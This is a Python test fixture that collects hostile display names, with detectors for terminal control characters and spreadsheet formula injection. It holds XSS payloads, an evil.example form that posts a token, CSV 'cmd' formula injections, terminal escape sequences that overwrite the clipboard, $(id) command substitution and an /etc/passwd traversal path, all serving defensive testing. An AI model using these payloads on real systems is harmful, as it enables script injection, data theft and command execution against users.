"""Names that somebody could give a person or a group, and what must never come of them."""

from __future__ import annotations

import csv
import io
import re

HOSTILE: dict[str, str] = {
    "script": "<script>window.hit=1</script>",
    "script that ends another": "</script><script>window.hit=1</script>",
    "script that ends a style": "</style><script>window.hit=1</script>",
    "script that ends a title": "</title><script>window.hit=1</script>",
    "script that ends a text field": "</textarea></select><script>window.hit=1</script>",
    "script in a comment": "<!--<script>window.hit=1</script>-->",
    "script behind a section": "]]><script>window.hit=1</script>",
    "image with a handler": "<img src=x onerror=window.hit=1>",
    "drawing with a handler": '"><svg onload=window.hit=1>',
    "way out of an attribute": "' onmouseover='window.hit=1' autofocus onfocus='window.hit=1' x='",
    "way out of a quoted attribute": '" onfocus="window.hit=1" autofocus tabindex="1',
    "frame": "<iframe src=https://evil.example></iframe>",
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "form to elsewhere": "<form action=https://evil.example><input name=token></form>",
    "base and refresh": '<base href=https://evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
    "script address": "javascript:window.hit=1//",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt;&#60;b&#62;",
    "template": "{{ 7 * 7 }}{% raw %}${window.hit=1}",
    "escapes of JSON": '\\u003cscript\\u003e\\"}],"x":[{"',
    "formula": '=HYPERLINK("https://evil.example","ok")',
    "formula by plus": "+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line break": "\r\n=1+1",
    "formula in full width": "＝1+1",
    "cells and lines": 'a"b,c;d\r\ne\tf',
    "colours": "\x1b[31m\x1b[2J\x1b[1;1Hred",
    "title of the terminal": "\x1b]0;pwned\x07",
    "link of the terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard of the terminal": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "control characters of eight bits": "\x9b2J\x90q\x9c\x85next",
    "control characters that nobody sees": "nul\x00bell\x07back\x08\x08\x08del\x7f",
    "turned around": "name\u202egpj.exe",
    "isolated": "\u2066left\u2069 \u200fright\u061c",
    "without width": "zero\u200bwidth\u200d\u2060\ufeff\u00ad",
    "line separators of JavaScript": "\u2028line\u2029paragraph",
    "tags and private letters": "tag\U000e0041\U000e0042 \ue000private",
    "stacked accents": "z" + "\u0301" * 60 + "algo",
    "right to left": "لمياء الهاشمي (HR)",
    "emoji": "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "Markdown": "[x](https://evil.example) ![y](https://evil.example/y.png) | `a` | **b**\n# c",
    "mention": "@everyone <!channel> <@U012AB3CD>",
    "words of JavaScript": "constructor __proto__ toString",
    "placeholders": "%s %n %(name)s {0} {name} $HOME `id` $(id)",
    "path": "../../../../etc/passwd\\..\\..",
    "very long": "x" * 700,
}
"""By what they try. Half a surrogate pair, which no Python server can send as text, is sent by ``test_hostile`` as an
escape on the wire; no string is left out."""
assert len(HOSTILE) >= 40

ACTS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u061c\ufeff\u00ad]")
"""What moves, hides or repaints text on a terminal; only line ends are left out."""
STARTS = tuple("=+-@\t\r\n＝＋－＠")
"""Signs with which a cell must not begin: a spreadsheet would calculate it."""


def acting(text: str) -> list[str]:
    """Lines of a terminal's output that hold something that acts."""
    return [ascii(line) for line in text.split("\n") if ACTS.search(line)]


def calculated(table: str, delimiter: str = ",") -> list[str]:
    """Cells that a spreadsheet would calculate, or that break out of their column."""
    rows = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    broken = [ascii(row) for row in rows if len(row) != len(rows[0])]
    return broken + [ascii(cell) for row in rows for cell in row if cell.lstrip(" ").startswith(STARTS)]
